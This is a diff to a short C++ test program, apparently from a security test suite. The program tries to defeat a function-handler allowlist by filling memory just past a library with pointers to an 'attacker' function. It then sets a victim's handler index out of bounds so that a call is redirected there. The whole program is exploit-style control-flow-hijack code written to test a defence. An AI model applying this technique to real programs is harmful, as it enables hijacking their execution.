@@ -9,8 +9,7 @@
 
 int main() {
   using namespace attack;
-  new Victim;
-  const Victim victim;
+  const Victim *const victim = young_victim();
   const auto allowlist = reinterpret_cast<std::uintptr_t>(ffi_test_address(2));
   void *room = nullptr;
   for (std::uintptr_t far = 1 << 24; far < 1ul << 28 && room == nullptr; far += 1 << 20) {
@@ -20,9 +19,9 @@ int main() {
     if (got == wanted) room = got;
   }
   if (room == nullptr) end(cannot_try, "no room after the library");
-  for (int i = 0; i < 512; ++i) static_cast<void (**)()>(room)[i] = attacker;
-  require_young(victim);
+  for (std::size_t i = 0; i < 4096 / sizeof(void *); ++i)
+    static_cast<void (**)()>(room)[i] = attacker;
   const std::uintptr_t distance = reinterpret_cast<std::uintptr_t>(room) + 2048 - allowlist;
-  victim.record()->handler = static_cast<std::uint32_t>(distance / sizeof(void *));
-  victim.finish();
+  victim->record()->handler = static_cast<std::uint32_t>(distance / sizeof(void *));
+  victim->finish();
 }
